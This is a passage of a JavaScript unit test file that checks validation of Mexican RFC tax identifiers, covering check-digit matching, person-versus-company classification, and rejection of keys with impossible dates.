          const ymd = date.toISOString().slice(2, 10).replaceAll('-', '');
          const body = `${letters.join('')}${ymd}${homoclave.join('')}`;
          const rfc = body + rfcCheckDigit(`${body}0`);
          expect(rfcCheckDigitMatches(rfc)).toBe(true);
          expect(rfcKind(rfc)).toBe(letters.length === 4 ? 'person' : 'company');
        },
      ),
    );
  });

  it('refuses impossible dates in the key', () => {
    expect(rfcKind('GODE561331GR8')).toBeNull();
    expect(rfcKind('GODE560230GR8')).toBeNull();
    expect(rfcKind('GODE000229GR8')).toBe('person');
  });
});
